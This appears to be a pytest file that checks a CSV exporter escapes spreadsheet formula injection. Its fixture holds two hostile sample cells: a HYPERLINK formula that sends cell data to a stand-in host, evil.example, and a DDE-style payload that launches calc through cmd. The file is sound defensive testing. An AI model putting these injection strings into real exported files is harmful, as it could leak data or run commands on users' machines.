"""CSV export: a cell a spreadsheet would run as a formula gets a leading quote (OWASP), unless asked raw;
numbers are never changed and Parquet keeps values as they are."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
from typer.testing import CliRunner

from claimledger.cli import app
from claimledger.export.tables import neutralise

HOSTILE = (
    'title: =HYPERLINK("http://evil.example/?"&A1,"Open the report")\n'
    "outlet: @SUM(1+1)*cmd|' /C calc'!A0\n"
    "url: https://news.example/ferry\n\n"
    "The harbour master said on Monday that about 40 passengers were taken off the ferry after it struck the pier. "
    "\"Nobody was badly hurt,\" a coastguard spokeswoman, Ilse Varga, told reporters.\n"
)


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("plain text", "plain text"), ("", ""), ("a=1", "a=1"), (-3.5, -3.5), (None, None)])
def test_cells_a_spreadsheet_would_evaluate_get_a_leading_quote(cell, written):
    assert neutralise(cell) == written


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    (folder / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    path = str(folder / "ledger.db")
    result = CliRunner().invoke(app, ["analyze", str(folder / "hostile.txt"), "--db", path])
    assert "analysed 1" in result.stdout, result.stdout + result.stderr
    return path


def _documents(folder) -> dict:
    with open(folder / "documents.csv", newline="", encoding="utf-8") as f:
        [row] = list(csv.DictReader(f))
    return row


def test_exported_csv_neutralises_formulas_and_raw_keeps_them(db, tmp_path):
    safe = CliRunner().invoke(app, ["export", "--format", "csv", "--db", db, "-o", str(tmp_path / "safe")])
    assert safe.exit_code == 0, safe.stderr
    row = _documents(tmp_path / "safe")
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open the report")'
    assert row["outlet"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["url"] == "https://news.example/ferry"
    for path in (tmp_path / "safe").glob("*.csv"):  # no cell anywhere starts a formula
        with open(path, newline="", encoding="utf-8") as f:
            assert not [c for r in csv.reader(f) for c in r if c[:1] in ("=", "+", "@", "\t", "\r")
                        or (c[:1] == "-" and not _number(c))], path.name
    raw = CliRunner().invoke(app, ["export", "--format", "csv", "--db", db, "-o", str(tmp_path / "raw"),
                                   "--csv-raw-formulas"])
    assert raw.exit_code == 0, raw.stderr
    assert _documents(tmp_path / "raw")["title"].startswith("=HYPERLINK(")
    parquet = CliRunner().invoke(app, ["export", "--format", "parquet", "--db", db, "-o", str(tmp_path / "pq")])
    assert parquet.exit_code == 0
    assert pd.read_parquet(tmp_path / "pq" / "documents.parquet")["title"][0].startswith("=HYPERLINK(")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
